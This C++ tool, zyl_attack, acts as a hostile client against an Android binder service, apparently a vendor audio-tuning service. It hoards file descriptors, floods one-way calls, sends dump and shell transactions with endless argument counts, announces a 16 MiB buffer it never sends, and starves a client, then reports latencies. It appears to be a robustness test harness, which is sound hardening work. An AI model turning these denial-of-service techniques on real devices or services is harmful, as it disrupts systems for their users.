// zyl_attack KIND ARGUMENT...: what a hostile application does to the service on purpose.
//     hoard CODE COUNT SECONDS   calls with so many descriptors, again and again for so long
//     flood CODE COUNT           so many one-way calls with the argument 1, then the client ends
//     platform CODE SIZE CLIENTS at once, a request of the base class of so many bytes whose number
//     of
//                                arguments never ends
//     announce CLIENTS           at once, tuning data that announces a work area of 16 MiB and
//     brings none wait UPLOADERS SAMPLES     a client that asks now and then, beside clients that
//     upload without pause
// Prints how often each status came, and how long the longest call took.

#include <binder/IServiceManager.h>
#include <binder/Parcel.h>
#include <fcntl.h>
#include <sys/mman.h>
#include <sys/wait.h>
#include <unistd.h>

#include <algorithm>
#include <atomic>
#include <chrono>
#include <climits>
#include <cstdio>
#include <cstdlib>
#include <functional>
#include <string>
#include <vector>

#include "interface/Izyl_kwo_service.h"

using android::IBinder;
using android::Parcel;
using android::sp;
using android::status_t;
using Clock = std::chrono::steady_clock;

namespace {

constexpr uid_t kAppUid = 10100;
constexpr int kWorkSize = 16 << 20;

// Shared by all clients.
struct Shared {
    std::atomic<bool> over;
    std::atomic<long> longest;  // microseconds
    std::atomic<int> done, refused;
    std::atomic<status_t> refusal;
    std::atomic<int> uploads, mostUploads;
};
Shared* shared;

sp<IBinder> findService() {
    return android::defaultServiceManager()->checkService(android::String16(kZylKwoServiceName));
}

void writeToken(Parcel& data) {
    data.writeInterfaceToken(Izyl_kwo_service::descriptor);
}

void call(IBinder& service, uint32_t code, const Parcel& data, uint32_t flags = 0) {
    Parcel reply;
    const auto from = Clock::now();
    const status_t status = service.transact(code, data, &reply, flags);
    const long taken =
            std::chrono::duration_cast<std::chrono::microseconds>(Clock::now() - from).count();
    long longest = shared->longest;
    while (taken > longest && !shared->longest.compare_exchange_weak(longest, taken)) continue;
    ++(status == android::NO_ERROR ? shared->done : shared->refused);
    if (status != android::NO_ERROR) shared->refusal = status;
}

// Each client is a process, and binder its own.
std::vector<pid_t> start(int clients, const std::function<void(IBinder&)>& body) {
    std::vector<pid_t> all;
    for (int client = 0; client < clients; ++client) {
        const pid_t child = fork();
        if (child == 0) {
            if (setgid(kAppUid) != 0 || setuid(kAppUid) != 0) _exit(1);
            body(*findService());
            _exit(0);
        }
        all.push_back(child);
    }
    return all;
}

void waitFor(const std::vector<pid_t>& clients) {
    for (pid_t client : clients) waitpid(client, nullptr, 0);
}

void hoard(uint32_t code, int count, int seconds) {
    waitFor(start(1, [=](IBinder& service) {
        const int fd = open("/dev/null", O_RDWR | O_CLOEXEC);
        const auto end = Clock::now() + std::chrono::seconds(seconds);
        do {
            Parcel data;
            writeToken(data);
            data.writeInt32(1);
            for (int i = 0; i < count; ++i) data.writeFileDescriptor(fd);
            call(service, code, data);
        } while (Clock::now() < end);
    }));
}

void flood(uint32_t code, int count) {
    waitFor(start(1, [=](IBinder& service) {
        Parcel data;
        writeToken(data);
        data.writeInt32(1);
        for (int i = 0; i < count; ++i) call(service, code, data, IBinder::FLAG_ONEWAY);
    }));
}

void askPlatform(const std::string& what, size_t size, int clients) {
    const uint32_t code =
            what == "dump" ? IBinder::DUMP_TRANSACTION : IBinder::SHELL_COMMAND_TRANSACTION;
    waitFor(start(clients, [=](IBinder& service) {
        const int fd = open("/dev/null", O_RDWR | O_CLOEXEC);
        Parcel data;
        for (int i = 0; i < (what == "dump" ? 1 : 3); ++i) data.writeFileDescriptor(fd);
        data.writeInt32(INT_MAX);
        while (data.dataSize() < size) data.writeInt32(-1);
        data.setDataSize(size);
        call(service, code, data);
    }));
}

void announce(int clients) {
    waitFor(start(clients, [](IBinder& service) {
        Parcel data;
        writeToken(data);
        data.writeInt32(4);
        data.writeInt32('A');
        data.writeInt32(kWorkSize);
        call(service, Izyl_kwo_service::SET_MULTI_CHANNEL_ROOM_ZYLCS_TUNING, data);
    }));
}

void waitBeside(int uploaders, int samples) {
    const std::vector<pid_t> busy = start(uploaders, [](IBinder& service) {
        Parcel data;
        Parcel reply;
        writeToken(data);
        data.writeInt32(0);
        while (!shared->over) {
            service.transact(Izyl_kwo_service::SET_RELOAD_FLAG, data, &reply);
            ++shared->uploads;
        }
    });
    usleep(100000);
    waitFor(start(1, [=](IBinder& service) {
        Parcel data;
        writeToken(data);
        for (int i = 0; i < samples; ++i) {
            const int before = shared->uploads;
            call(service, Izyl_kwo_service::GET_STEREO_MODE, data);
            shared->mostUploads = std::max<int>(shared->mostUploads, shared->uploads - before);
            usleep(2000);
        }
    }));
    shared->over = true;
    waitFor(busy);
}

int usage() {
    fputs("usage: zyl_attack hoard CODE COUNT SECONDS | flood CODE COUNT |\n"
          "       platform dump|shell SIZE CLIENTS | announce CLIENTS | wait UPLOADERS SAMPLES\n",
          stderr);
    return 2;
}

}  // namespace

int main(int argc, char** argv) {
    const std::string kind = argc > 1 ? argv[1] : "";
    const auto number = [=](int i) { return i < argc ? atoi(argv[i]) : 0; };
    shared = static_cast<Shared*>(mmap(nullptr, sizeof(Shared), PROT_READ | PROT_WRITE,
                                       MAP_SHARED | MAP_ANONYMOUS, -1, 0));
    if (kind == "hoard" && argc == 5) {
        hoard(static_cast<uint32_t>(number(2)), number(3), number(4));
    } else if (kind == "flood" && argc == 4) {
        flood(static_cast<uint32_t>(number(2)), number(3));
    } else if (kind == "platform" && argc == 5) {
        askPlatform(argv[2], static_cast<size_t>(number(3)), number(4));
    } else if (kind == "announce" && argc == 3) {
        announce(number(2));
    } else if (kind == "wait" && argc == 4) {
        waitBeside(number(2), number(3));
    } else {
        return usage();
    }
    printf("done=%d refused=%d status=%d longest=%ld us uploads=%d\n", shared->done.load(),
           shared->refused.load(), shared->refusal.load(), shared->longest.load(),
           shared->mostUploads.load());
    return 0;
}
